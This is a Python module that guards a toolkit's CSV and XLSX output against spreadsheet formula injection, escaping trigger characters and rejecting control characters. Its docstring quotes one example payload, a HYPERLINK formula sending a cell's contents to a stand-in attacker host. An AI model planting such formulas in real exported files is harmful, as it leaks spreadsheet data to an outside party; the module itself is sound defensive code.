"""Spreadsheet-safe cells: the one way the toolkit writes text into a CSV or XLSX file.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
Excel and LibreOffice when the file is opened (OWASP, "CSV Injection"): a channel name taken
from a client's CRM export such as `=HYPERLINK("http://evil.example/?x="&A1,"Webinar")` would
run on the consultant's machine. In a CSV such a cell is written with a leading apostrophe,
which spreadsheets show as text, and `unescaped` takes it off again when the toolkit reads
its own file back; in an XLSX the cell is stored as a string, never as a formula. Numbers
are written as numbers: a figure (`Figure`, text the caller formatted from a number, such as
"-12.50") is never prefixed.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class Figure(str):
    """Text formatted from a number (a count, an amount): written as it is."""

    __slots__ = ()


def safe_text(value: str) -> str:
    """`value` as a CSV cell that no spreadsheet evaluates: a leading apostrophe before a trigger."""
    return "'" + value if value.startswith(TRIGGERS) and not isinstance(value, Figure) else value


def unescaped(value: str) -> str:
    """A text cell as it was before `safe_text` (one leading apostrophe before a trigger removed)."""
    return value[1:] if value.startswith("'") and value[1:2] and value[1:].startswith(TRIGGERS) else value


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, Figure):
        return str.__str__(value)
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return f"{value:g}" if isinstance(value, float) else str(value)
    return safe_text(str(value))


def csv_text(rows: Iterable[Sequence[Any]], delimiter: str = ",", line_end: str = "\n") -> str:
    """CSV text (comma-separated and `\\n` line ends unless told otherwise, quoted where needed) with
    every text cell made safe."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator=line_end)
    for row in rows:
        writer.writerow([_cell(v) for v in row])
    return out.getvalue()


def xlsx_text(cell: Any, value: str) -> None:
    """Put text into an openpyxl cell as a string, never a formula (whatever it starts with)."""
    cell.value = value
    cell.data_type = "s"


# C0 control characters and DEL, but tab, line feed and carriage return: no workbook can hold them
# (openpyxl refuses the cell), and no report can show them. Refused where a name is read.
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


class ControlCharacter(ValueError):
    """A text holding a control character, in the console's words."""


def control_character(value: str) -> str | None:
    """The first control character in `value` (see `_CONTROL`), None when it has none."""
    found = _CONTROL.search(value)
    return found.group() if found else None


def no_control(value: str | None) -> str | None:
    """`value` unchanged, or ControlCharacter when it holds a control character (a pydantic validator)."""
    if value is not None and control_character(value) is not None:
        from smarketing_assess.core.console import say

        raise ControlCharacter(say("safety.control"))
    return value
